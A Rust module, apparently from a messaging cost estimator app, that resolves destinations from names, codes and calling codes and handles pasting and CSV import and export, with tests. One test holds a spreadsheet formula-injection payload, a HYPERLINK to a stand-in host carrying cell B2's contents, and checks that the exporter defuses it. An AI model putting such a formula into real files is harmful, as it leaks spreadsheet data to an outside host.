//! Getting volumes in and out of the sheet: finding a destination from what a user types
//! (country name, ISO code, calling code or Meta market), pasting a block from a spreadsheet,
//! and CSV import and export. Reading pastes and imports is in `read`.

mod read;

pub use read::{
    check_file_size, import_csv, paste, SheetNote, SheetProblem, SheetProblemKind, SheetProblems,
    Source, MAX_LISTED, MAX_SHEET_BYTES, MAX_SHEET_ROWS,
};

use crate::draft::{Dest, Draft, Line};
use crate::place_names::with_names;
use chrono::NaiveDate;
use wacost_core::catalog::markets::MarketTable;
use wacost_core::csv;
use wacost_core::destinations::{self, Destination, Found};
use wacost_core::locale::Locale;
use wacost_core::scenario::Setting;
use wacost_core::Catalog;

/// The market table for the draft's month (the latest one when the month is not valid yet), so
/// the picker offers the countries and markets the estimate will use.
pub fn table_for(draft: &Draft) -> &'static MarketTable {
    let catalog = Catalog::builtin();
    let date = draft
        .get(Setting::Month)
        .trim()
        .split_once('-')
        .and_then(|(y, m)| NaiveDate::from_ymd_opt(y.parse().ok()?, m.parse().ok()?, 1))
        .unwrap_or(NaiveDate::MAX);
    catalog.market_table_on(date)
}

/// A market table as a component's property: there is one per date, so two are the same
/// table exactly when they are at the same address.
#[derive(Debug, Clone, Copy)]
pub struct Table(pub &'static MarketTable);

impl PartialEq for Table {
    fn eq(&self, other: &Table) -> bool {
        std::ptr::eq(self.0, other.0)
    }
}

/// The page's destination from core's.
fn dest_of(destination: Destination) -> Dest {
    match destination {
        Destination::Country(iso) => Dest::Country(iso),
        Destination::Market(name) => Dest::Market(name),
    }
}

/// One suggestion of the destination picker, named in the page's language.
#[derive(Debug, Clone, PartialEq)]
pub struct Suggestion {
    pub dest: Dest,
    pub found: Found,
}

/// Destinations matching `query`, best first, by core's one search (names and short forms in
/// four languages, codes, whole numbers), named in `locale`.
pub fn search(table: &MarketTable, query: &str, locale: Locale, limit: usize) -> Vec<Suggestion> {
    with_names(locale, |names| {
        destinations::search(table, query, names, limit)
            .into_iter()
            .map(|found| Suggestion {
                dest: dest_of(found.destination.clone()),
                found,
            })
            .collect()
    })
}

/// The one destination `text` names exactly, for pasted and imported rows where there is no
/// list to pick from.
pub fn resolve(table: &MarketTable, text: &str, locale: Locale) -> Option<Dest> {
    with_names(locale, |names| destinations::resolve(table, text, names)).map(dest_of)
}

/// How a destination is shown in the sheet, in `locale`: the country's name with its code, or
/// the market's name; then the market's name.
pub fn describe(table: &MarketTable, dest: &Dest, locale: Locale) -> (String, String) {
    with_names(locale, |names| match dest {
        Dest::Country(iso) => match table.rows.iter().find(|r| r.iso2.eq_ignore_ascii_case(iso)) {
            Some(row) => (
                format!("{} ({})", names.country(table, &row.iso2), row.iso2),
                names.market(table, &row.market),
            ),
            None => (iso.clone(), String::new()),
        },
        Dest::Market(name) => {
            let shown = names.market(table, name);
            (shown.clone(), shown)
        }
    })
}

/// The sheet as CSV: `destination,marketing,utility,authentication,service`, a destination
/// being an ISO code or a market name. Written by core's CSV writer, so a market name a link
/// brought in cannot become a spreadsheet formula.
pub fn export_csv(lines: &[Line]) -> String {
    let mut out = csv::record([
        "destination",
        "marketing",
        "utility",
        "authentication",
        "service",
    ]);
    for line in lines {
        let dest = match &line.dest {
            Dest::Country(iso) | Dest::Market(iso) => iso.as_str(),
        };
        csv::push_record(
            &mut out,
            std::iter::once(dest).chain(line.counts.iter().map(|c| c.trim())),
        );
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> &'static MarketTable {
        Catalog::builtin().market_table_on(NaiveDate::from_ymd_opt(2026, 11, 1).unwrap())
    }

    #[cfg_attr(not(target_arch = "wasm32"), test)]
    #[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
    fn resolves_codes_names_and_markets() {
        let (t, en) = (table(), Locale::En);
        assert_eq!(resolve(t, "in", en), Some(Dest::Country("IN".into())));
        assert_eq!(resolve(t, "+91", en), Some(Dest::Country("IN".into())));
        assert_eq!(resolve(t, "Brazil", en), Some(Dest::Country("BR".into())));
        assert_eq!(resolve(t, "Brasil", en), Some(Dest::Country("BR".into())));
        assert_eq!(
            resolve(t, "rest of africa", en),
            Some(Dest::Market("Rest of Africa".into()))
        );
        assert_eq!(resolve(t, "Atlantis", en), None);
    }

    #[cfg_attr(not(target_arch = "wasm32"), test)]
    #[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
    fn search_puts_exact_codes_first() {
        let found = search(table(), "+44", Locale::En, 5);
        assert_eq!(found[0].dest, Dest::Country("GB".into()));
        let found = search(table(), "ind", Locale::En, 8);
        assert!(found.iter().any(|s| s.dest == Dest::Country("IN".into())));
        assert!(found.iter().any(|s| s.dest == Dest::Country("ID".into())));
    }

    #[cfg_attr(not(target_arch = "wasm32"), test)]
    #[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
    fn paste_with_destinations_adds_rows() {
        let mut draft = Draft::default_scenario("2026-11");
        let id = draft.lines[0].id;
        paste(
            &mut draft,
            id,
            0,
            "Mexico\t1,000\t20\nIN\t7\n",
            table(),
            Locale::En,
        )
        .unwrap();
        let mx = draft.lines.last().unwrap();
        assert_eq!(mx.dest, Dest::Country("MX".into()));
        assert_eq!(mx.counts, ["1000", "20", "", ""].map(String::from));
        assert_eq!(draft.lines[0].counts[0], "7");
        assert_eq!(draft.lines.len(), 4);
    }

    #[cfg_attr(not(target_arch = "wasm32"), test)]
    #[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
    fn paste_numbers_fills_down_and_right_or_nothing() {
        let mut draft = Draft::default_scenario("2026-11");
        let id = draft.lines[1].id;
        paste(&mut draft, id, 2, "1\t2\n3\t4", table(), Locale::En).unwrap();
        assert_eq!(draft.lines[1].counts[2..], ["1", "2"].map(String::from));
        assert_eq!(draft.lines[2].counts[2..], ["3", "4"].map(String::from));
        let before = draft.clone();
        assert!(paste(&mut draft, id, 2, "1\t2\t3", table(), Locale::En).is_err());
        assert!(paste(&mut draft, id, 0, "1\n2\n3", table(), Locale::En).is_err());
        assert_eq!(draft, before);
    }

    #[cfg_attr(not(target_arch = "wasm32"), test)]
    #[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
    fn csv_round_trips_and_reports_unknowns() {
        let draft = Draft::default_scenario("2026-11");
        let csv = export_csv(&draft.lines);
        assert!(csv.starts_with(
            "destination,marketing,utility,authentication,service\nIN,1000,5000,2000,3000\n"
        ));
        let (lines, note) = import_csv(&csv, table(), Locale::En).unwrap();
        assert_eq!(note, None);
        assert_eq!(lines.len(), 3);
        assert_eq!(lines[1].0, Dest::Country("BR".into()));
        assert_eq!(
            lines[1].1,
            ["2000", "1000", "500", "1500"].map(String::from)
        );
        let err = import_csv(
            "country,marketing\nAtlantis,3\n\"Rest of Africa\",4\n",
            table(),
            Locale::En,
        )
        .unwrap_err();
        assert_eq!(
            err.problems,
            [SheetProblem {
                line: 2,
                column: 0,
                kind: SheetProblemKind::NotADestination {
                    text: "Atlantis".into()
                }
            }]
        );
    }

    #[cfg_attr(not(target_arch = "wasm32"), test)]
    #[cfg_attr(target_arch = "wasm32", wasm_bindgen_test::wasm_bindgen_test)]
    fn export_writes_no_formula_cell() {
        let mut draft = Draft::empty();
        draft.push(
            Dest::Market("=HYPERLINK(\"https://x.example/?\"&B2,\"rates\")".into()),
            ["@1", "+919876543210", "-2", " 12 "],
        );
        assert_eq!(
            export_csv(&draft.lines),
            "destination,marketing,utility,authentication,service\n\
             \"'=HYPERLINK(\"\"https://x.example/?\"\"&B2,\"\"rates\"\")\",'@1,+919876543210,-2,12\n"
        );
    }
}
